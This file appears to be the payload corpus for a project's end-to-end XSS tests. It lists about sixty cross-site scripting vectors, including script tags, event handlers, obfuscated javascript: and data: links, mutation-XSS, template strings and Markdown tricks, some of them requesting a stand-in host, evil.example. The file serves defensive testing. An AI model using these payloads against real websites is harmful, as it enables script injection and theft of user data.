// The XSS corpus of tests/e2e/xss.test.mjs: each payload is made for one place (its `tag`,
// "<payload>.<surface>.<instance>"), and sets `window.__xss` to that tag if it ever runs
// (`parent.__xss` from inside a frame). Payloads that cannot set it (a remote script or
// stylesheet, a CSS `url()`, `vbscript:`) name http://evil.example/, so that running them is a
// request to another origin, which fails the test as well.
//
// `markdownLink`: the payload has a Markdown link (`'link'`) or image (`'image'`) whose address
// the URL policy refuses (`crates/engine/src/text/url.rs`). Lint refuses such a link in any
// Markdown text of a form (description, outcome body, content block) or a guide (conditions,
// material notes, step bodies, FAQ answers), and such an image in a form's; a definition with
// one is never rendered, and the test shows it on the "cannot be shown" page instead. A guide's
// image from another host is not refused when the app or `onewindow site` loads the guide (only
// `onewindow lint` with its catalog does): the renderer shows its words instead. Outside
// Markdown each is plain text like any other payload.

const js = (tag) => `window.__xss='${tag}'`;
/** The same without quotes: a regular expression literal's source. */
const bare = (tag) => `window.__xss=/${tag}/.source`;
const framed = (tag) => `parent.__xss='${tag}'`;
const b64 = (text) => Buffer.from(text, 'utf8').toString('base64');
const htmlPage = (tag) => `<script>${framed(tag)}</script>`;
const entities = (text) => [...text].map((c) => `&#${c.charCodeAt(0)};`).join('');

/** Every payload: `id`, what it tries (`name`), `make(tag)`, and `markdownLink` (see above). */
export const PAYLOADS = [
  // Script elements.
  { name: 'script element', make: (t) => `<script>${js(t)}</script>` },
  { name: 'remote script', make: (t) => `<script src="http://evil.example/${t}.js"></script>` },
  { name: 'script, mixed case and spaces', make: (t) => `<ScRiPt >${js(t)}</sCrIpT >` },
  { name: 'script inside SVG', make: (t) => `<svg><script>${js(t)}</script></svg>` },
  // Event handlers.
  { name: 'img onerror', make: (t) => `<img src=x onerror="${js(t)}">` },
  { name: 'img onerror, unquoted, no quotes in the code', make: (t) => `<img src=x onerror=${bare(t)}>` },
  { name: 'img, slashes for spaces', make: (t) => `<img/src="x"/onerror=${bare(t)}>` },
  { name: 'img onerror, \\u escape in the handler', make: (t) => `<img src=x onerror="\\u0077indow.__xss='${t}'">` },
  { name: 'svg onload', make: (t) => `<svg onload="${js(t)}"></svg>` },
  { name: 'svg animate onbegin', make: (t) => `<svg><animate onbegin="${js(t)}" attributeName="x" dur="1s"/></svg>` },
  { name: 'body onload', make: (t) => `<body onload="${js(t)}">` },
  { name: 'details ontoggle', make: (t) => `<details open ontoggle="${js(t)}"><summary>x</summary></details>` },
  { name: 'input autofocus onfocus', make: (t) => `<input autofocus onfocus="${js(t)}">` },
  { name: 'video source onerror', make: (t) => `<video><source onerror="${js(t)}"></video>` },
  { name: 'unclosed img at the end', make: (t) => `<img src=x onerror=${bare(t)} ` },
  // Frames, objects, srcdoc.
  { name: 'iframe srcdoc', make: (t) => `<iframe srcdoc="<script>${framed(t)}</script>"></iframe>` },
  { name: 'iframe srcdoc, entity-encoded', make: (t) => `<iframe srcdoc="&lt;img src=x onerror=parent.__xss=/${t}/.source&gt;"></iframe>` },
  { name: 'iframe javascript: src', make: (t) => `<iframe src="javascript:${framed(t)}"></iframe>` },
  { name: 'iframe data:text/html src', make: (t) => `<iframe src="data:text/html,${htmlPage(t)}"></iframe>` },
  { name: 'object data:text/html;base64', make: (t) => `<object data="data:text/html;base64,${b64(htmlPage(t))}">${t}</object>` },
  { name: 'embed data:image/svg+xml', make: (t) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=/${t}/.source'/>">` },
  // javascript:, data:, vbscript: links with case and entity tricks.
  { name: 'a href javascript:', make: (t) => `<a href="javascript:${js(t)}">x</a>` },
  { name: 'a href JaVaScRiPt:', make: (t) => `<a href="JaVaScRiPt:${js(t)}">x</a>` },
  { name: 'a href javascript: as decimal entities', make: (t) => `<a href="${entities('javascript:')}${js(t)}">x</a>` },
  { name: 'a href java&#x09;script&#x3A; (tab, hex entities)', make: (t) => `<a href="java&#x09;script&#x3A;${js(t)}">x</a>` },
  { name: 'a href javascript&colon;', make: (t) => `<a href="javascript&colon;${js(t)}">x</a>` },
  { name: 'a href with leading spaces and control characters', make: (t) => `<a href=" &#14;\u0001 javascript:${js(t)}">x</a>` },
  { name: 'a href vbscript:', make: (t) => `<a href="vbscript:msgbox(&quot;${t}&quot;)">x</a><img src="http://evil.example/${t}.gif">` },
  { name: 'a href data:text/html;base64', make: (t) => `<a href="data:text/html;base64,${b64(`<script>${js(t)}</script>`)}">${t}</a>` },
  { name: 'svg a xlink:href javascript:', make: (t) => `<svg><a xlink:href="javascript:${js(t)}"><text x="20" y="20">x</text></a></svg>` },
  { name: 'form action and formaction javascript:', make: (t) => `<form action="javascript:${js(t)}"><button formaction="javascript:${js(t)}">x</button></form>` },
  { name: 'meta refresh to javascript:', make: (t) => `<meta http-equiv="refresh" content="0;url=javascript:${js(t)}">` },
  // CSS and other ways to call another site.
  { name: 'CSS url() in a style attribute', make: (t) => `<div style="background-image:url('http://evil.example/${t}.png')">x</div>` },
  { name: 'style element: @import and url()', make: (t) => `<style>@import url("http://evil.example/${t}.css");body{background:url(//evil.example/${t}.png)}</style>` },
  { name: 'remote stylesheet link', make: (t) => `<link rel="stylesheet" href="http://evil.example/${t}.css">` },
  { name: 'base href to another site', make: (t) => `<base href="http://evil.example/${t}/">` },
  { name: 'img srcset from another site', make: (t) => `<img srcset="http://evil.example/${t}.png 1x" alt="">` },
  // Breaking out of attributes, raw text elements, comments; mutation XSS.
  { name: 'breaking out of a double-quoted attribute', make: (t) => `"><img src=x onerror="${js(t)}">` },
  { name: "breaking out of a single-quoted attribute", make: (t) => `'><svg onload=${bare(t)}>` },
  { name: 'closing a script element (JSON-LD)', make: (t) => `</script><script>${js(t)}</script>` },
  { name: 'closing title, textarea, style, noscript', make: (t) => `</title></textarea></style></noscript><img src=x onerror="${js(t)}">` },
  { name: 'closing a comment', make: (t) => `--><!--<img src="--><img src=x onerror=${bare(t)}>-->` },
  { name: 'mXSS: noscript title', make: (t) => `<noscript><p title="</noscript><img src=x onerror=${bare(t)}>"></noscript>` },
  { name: 'mXSS: math, mglyph, style', make: (t) => `<math><mtext><table><mglyph><style><img src=x onerror="${js(t)}"></style></mglyph></table></mtext></math>` },
  { name: 'entity-encoded markup (a second decoding would run it)', make: (t) => `&lt;img src=x onerror=${bare(t)}&gt; &#60;script&#62;${js(t)}&#60;/script&#62;` },
  { name: 'percent-encoded markup', make: (t) => `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(bare(t))}%3E` },
  // Template-looking strings.
  { name: 'Angular-style template', make: (t) => `{{constructor.constructor('${js(t).replaceAll("'", '"')}')()}}` },
  { name: 'template literals of several engines', make: (t) => `\${${js(t)}} #{${js(t)}} <%= ${js(t)} %> {{7*7}} [[\${${js(t)}}]] {{{${js(t)}}}}` },
  // Markdown links and images.
  { name: 'Markdown link to javascript:', markdownLink: 'link', make: (t) => `[click](javascript:${js(t)})` },
  { name: 'Markdown link to &#106;avascript:', markdownLink: 'link', make: (t) => `[click](&#106;avascript:${js(t)})` },
  { name: 'Markdown links to VBScript: and data:', markdownLink: 'link', make: (t) => `[x](VBScript:msgbox('${t}')) [y](data:text/html;base64,${b64(`<script>${js(t)}</script>`)})` },
  { name: 'Markdown image from another site', markdownLink: 'image', make: (t) => `![x](http://evil.example/${t}.png)` },
  { name: 'Markdown image, quotes in alt and title', make: (t) => `![x" onerror="${js(t)}](x "y\\" onerror=\\"${js(t)}")` },
  { name: 'Markdown autolink to javascript:', make: (t) => `<javascript:${js(t)}>` },
  { name: 'Markdown link title breaking out', make: (t) => `[x](https://example.org/${t} "a\\" onmouseover=\\"${js(t)}")` },
  { name: 'Markdown code span and HTML block', make: (t) => `\`<img src=x onerror=${bare(t)}>\`\n\n<div>\n<img src=x onerror="${js(t)}">\n</div>` },
  // Bare addresses (a link's href, a URL parameter).
  { name: 'bare javascript: address', make: (t) => `javascript:${js(t)}` },
  { name: 'bare javascript: address, spaces, tab and case', make: (t) => `  \tJaVa\tScRiPt:${js(t)}` },
  { name: 'bare data:text/html address', make: (t) => `data:text/html,<script>${js(t)}</script>` },
  { name: 'bare vbscript: address', make: (t) => `vbscript:msgbox("${t}")` },
].map((p, i) => ({ id: `p${String(i + 1).padStart(2, '0')}`, markdownLink: false, ...p }));

/** `crates/engine/src/text/url.rs`'s `is_safe_link`, for the addresses a guide's material links
 *  to (`blank_form`, `sample`): lint refuses the others, so a guide with one is not shown. */
export function isSafeLink(url) {
  if ([...url].some((c) => /\p{Cc}/u.test(c))) return false;
  const lower = url.replace(/^ +| +$/g, '').toLowerCase();
  const end = lower.search(/[:/?#]/);
  const hasScheme = end >= 0 && lower[end] === ':';
  return !hasScheme || ['http:', 'https:', 'mailto:', 'tel:'].some((s) => lower.startsWith(s));
}
